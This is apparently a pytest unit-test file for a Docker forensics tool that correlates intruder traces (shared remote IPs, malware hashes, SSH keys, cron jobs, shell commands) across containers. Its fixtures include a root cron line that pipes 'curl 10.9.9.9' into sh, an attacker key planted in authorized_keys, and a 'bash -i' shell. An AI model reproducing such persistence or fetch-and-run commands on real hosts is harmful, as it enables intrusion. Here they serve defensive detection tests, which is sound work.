# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What the fleet has in common: the intruder's traces are brought together, and what everybody has is not told."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ansible_collections.cordon.docker.plugins.plugin_utils._analysis.correlations import (
    correlations,
    write_correlations,
)
from ansible_collections.cordon.docker.plugins.plugin_utils._analysis.evaluate import evaluate, write_findings
from ansible_collections.cordon.docker.plugins.plugin_utils._analysis.observations import usable
from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
    add_container,
    connection,
    file,
    inspect,
    process,
)

LAB = Path(__file__).parents[3] / "fixtures" / "cases" / "lab"
BAG = "20260301T120500Z-triage"
MALWARE, KEY = "ab" * 32, "cd" * 32
ONE, TWO, THREE, FOUR = ("1" * 12, "2" * 12, "3" * 12, "4" * 12)


def accuse(case: Path, *named: tuple[str, str, str, int | None], **more: Any) -> None:
    """Findings that name one line each: host, container, item, line."""
    rows = [
        {
            "id": f"{number}",
            "kind": "intrusion",
            "host": host,
            "container": {"id": container, "name": "shop", "image": "acme/shop:5.2"},
            "severity": "high",
            "rule": "made-up",
            "sentence": "Something.",
            "evidence": [
                {"bag": f"{host}/{BAG}", "path": f"data/containers/{container}/{item}", "line": line}
            ],
            **more,
        }
        for number, (host, container, item, line) in enumerate(named)
    ]
    with (case / "findings.jsonl").open("a") as stream:
        stream.writelines(json.dumps(row) + "\n" for row in rows)


def told(case: Path) -> dict[str, list[str]]:
    """Values by kind."""
    found: dict[str, list[str]] = {}
    for row in correlations(case):
        found.setdefault(row["kind"], []).append(row["value"])
    return found


def test_the_lab_s_intruder_is_one(tmp_path: Path) -> None:
    case = tmp_path / "lab"
    shutil.copytree(LAB, case)
    write_findings(case, evaluate(case))
    rows = [json.loads(line) for line in write_correlations(case).read_text().splitlines()]
    (remote,) = rows
    assert (remote["kind"], remote["value"]) == ("remote", "10.213.66.6")
    assert [member["container"]["name"] for member in remote["members"]] == ["dvwa", "log4shell"]
    assert remote["first"]["container"]["name"] == "dvwa"
    assert remote["edges"][0]["from"] == {"peer": "10.213.66.6"}
    assert remote["edges"][1]["to"] == {"peer": "10.213.66.6"}
    for member in remote["members"]:
        ref = member["evidence"]
        line = (case / ref["bag"] / ref["path"]).read_text().splitlines()[ref["line"] - 1]
        assert "10.213.66.6" in line
    before = (case / "correlations.jsonl").read_bytes()
    assert write_correlations(case).read_bytes() == before


def test_a_dropped_file_is_found_where_nobody_is_suspected_yet(tmp_path: Path) -> None:
    dropped = file("/tmp/x", sha256=MALWARE, executable=True, bytes=900)
    earlier = {**dropped, "path": "/dev/shm/y", "ctime": "2026-03-01T11:00:00Z"}
    add_container(tmp_path, {"layer.jsonl": [dropped]}, "web1", ONE)
    add_container(tmp_path, {"layer.jsonl": [earlier]}, "app2", TWO)
    accuse(tmp_path, ("web1", ONE, "layer.jsonl", 1))
    (row,) = correlations(tmp_path)
    assert (row["kind"], row["value"]) == ("file-hash", MALWARE)
    assert row["first"]["host"] == "app2"
    assert [member["suspicious"] for member in row["members"]] == [False, True]
    assert "1 of them gave no other sign" in row["sentence"]
    assert row["edges"][0]["from"]["host"] == "app2"


def test_what_everybody_has_is_no_correlation(tmp_path: Path) -> None:
    rows = [
        file("/opt/app/run.sh", sha256="11" * 32, executable=True, bytes=400, code="shell"),
        file("/run/app.pid", sha256="22" * 32, bytes=2),
    ]
    processes = [process(100, 1, "/bin/sh", "sh", "-c", "app"), process(101, 100, "/bin/sleep", "sleep", "5")]
    items: dict[str, Any] = {"layer.jsonl": rows, "processes.jsonl": processes}
    items["sockets.jsonl"] = [connection(1, "10.0.0.5", 5432, 100)]
    for host, container in (("web1", ONE), ("web1", TWO), ("app2", THREE), ("db3", FOUR)):
        add_container(tmp_path, items, host, container)
    accuse(tmp_path, ("web1", ONE, "stats.json", None), ("web1", TWO, "processes.jsonl", 2))
    found = told(tmp_path)
    assert set(found) <= {"image"}
    assert set(told(tmp_path)) <= {"image"}


@pytest.mark.parametrize("innocents", [0, 1])
def test_what_two_suspicious_ones_share_counts_where_no_other_has_it(tmp_path: Path, innocents: int) -> None:
    dropped = {"layer.jsonl": [file("/tmp/x", sha256=MALWARE, executable=True, bytes=900)]}
    add_container(tmp_path, dropped, "web1", ONE)
    add_container(tmp_path, dropped, "app2", TWO)
    add_container(tmp_path, dropped if innocents else {}, "db3", THREE)
    accuse(tmp_path, ("web1", ONE, "stats.json", None), ("app2", TWO, "stats.json", None))
    assert told(tmp_path).get("file-hash", []) == ([] if innocents else [MALWARE])


def test_keys_and_timed_jobs(tmp_path: Path) -> None:
    key = "ssh-ed25519 " + "A" * 60
    jobs = "SHELL=/bin/sh\n# comment\n* * * * * root curl 10.9.9.9|sh\n"
    keys = file("/root/.ssh/authorized_keys", sha256=KEY, bytes=80, head=f"{key} evil@x\n")
    cron = file("/etc/cron.d/x", sha256=MALWARE, bytes=60, head=jobs)
    add_container(tmp_path, {"layer.jsonl": [keys, cron]}, "web1", ONE)
    other = [{**keys, "head": f"from=* {key} other\n", "sha256": "ee" * 32}, {**cron, "head": jobs[14:]}]
    add_container(tmp_path, {"layer.jsonl": other}, "app2", TWO)
    accuse(tmp_path, ("web1", ONE, "layer.jsonl", 1), ("web1", ONE, "layer.jsonl", 2))
    assert told(tmp_path) == {"ssh-key": [key], "cron": ["* * * * * root curl 10.9.9.9|sh"]}


def test_a_command_line_an_image_and_the_way_out(tmp_path: Path) -> None:
    document = inspect(Image="sha256:" + "9" * 64)
    items = {"inspect.json": document, "processes.jsonl": [process(100, 1, "/bin/bash", "bash", "-i", "x")]}
    for host, container in (("web1", ONE), ("app2", TWO)):
        add_container(tmp_path, items, host, container)
        accuse(tmp_path, (host, container, "processes.jsonl", 1))
    accuse(tmp_path, ("web1", ONE, "inspect.json", None), kind="exposure", rule="privileged")
    accuse(tmp_path, ("db3", THREE, "inspect.json", None), kind="exposure", rule="privileged")
    rows = {row["kind"]: row for row in correlations(tmp_path)}
    assert list(rows) == ["command-line", "image", "path"]
    assert rows["command-line"]["value"] == "bash -i x"
    assert "of 2 containers" in rows["image"]["sentence"]
    assert rows["path"]["edges"][0]["to"] == {"host": "web1", "container": None}


def test_the_path_to_a_neighbour(tmp_path: Path) -> None:
    def at(address: str) -> dict[str, Any]:
        return inspect(NetworkSettings={"Networks": {"app": {"IPAddress": address, "Gateway": "172.18.0.1"}}})

    talks = {
        "inspect.json": at("172.18.0.2"),
        "processes.jsonl": [process(100, 1, "/bin/bash", "bash")],
        "sockets.jsonl": [connection(1, "172.18.0.3", 22, 100), connection(2, "172.18.0.1", 80, 100)],
    }
    add_container(tmp_path, talks, "web1", ONE)
    add_container(tmp_path, {"inspect.json": at("172.18.0.3")}, "web1", TWO)
    accuse(tmp_path, ("web1", ONE, "processes.jsonl", 1))
    (row,) = correlations(tmp_path)
    assert row["kind"] == "path"
    assert [row["edges"][0][end]["container"]["id"] for end in ("from", "to")] == [ONE, TWO]


def test_what_is_known_accuses_nobody(tmp_path: Path) -> None:
    dropped = {"layer.jsonl": [file("/tmp/x", sha256=MALWARE, executable=True, bytes=900)]}
    add_container(tmp_path, dropped, "web1", ONE)
    add_container(tmp_path, dropped, "app2", TWO)
    accuse(tmp_path, ("web1", ONE, "layer.jsonl", 1), suppressed={"reason": "ours"})
    assert correlations(tmp_path) == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("10.1.2.3", "10.1.2.3"),
        ("::ffff:10.1.2.3", "10.1.2.3"),
        ("2001:DB8::0001", "2001:db8::1"),
        ("127.0.0.1", None),
        ("0.0.0.0", None),
        ("fe80::1%eth0", "fe80::1"),
        ("example.org", None),
        ("", None),
    ],
)
def test_addresses_of_other_machines(text: str, expected: str | None) -> None:
    assert usable(text) == expected


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=30) | st.sampled_from(["\x1b[2J x", "\u202ex y", '"}\n{"', "\udcff a"]))
def test_nothing_hostile_breaks_a_line(tmp_path: Path, text: str) -> None:
    shutil.rmtree(tmp_path, ignore_errors=True)
    items = {
        "inspect.json": json.dumps(inspect(Name=text, Image=text, NetworkSettings=text)).encode(),
        "processes.jsonl": json.dumps(process(100, 1, text, text, "a b")).encode(),
        "layer.jsonl": json.dumps(
            file(text, sha256=MALWARE, executable=True, bytes=99, head=text, ctime=text)
        ).encode(),
        "logs/hits.jsonl": json.dumps({"line": text, "time": text}).encode() + b"\n\xff",
    }
    for host, container in (("web1", ONE), ("app2", TWO)):
        add_container(tmp_path, items, host, container)
        for item in ("processes.jsonl", "layer.jsonl", "logs/hits.jsonl"):
            accuse(tmp_path, (host, container, item, 1))
    for line in write_correlations(tmp_path).read_bytes().splitlines():
        row = json.loads(line)
        assert row["sentence"].isprintable()
        assert row["value"].isprintable()
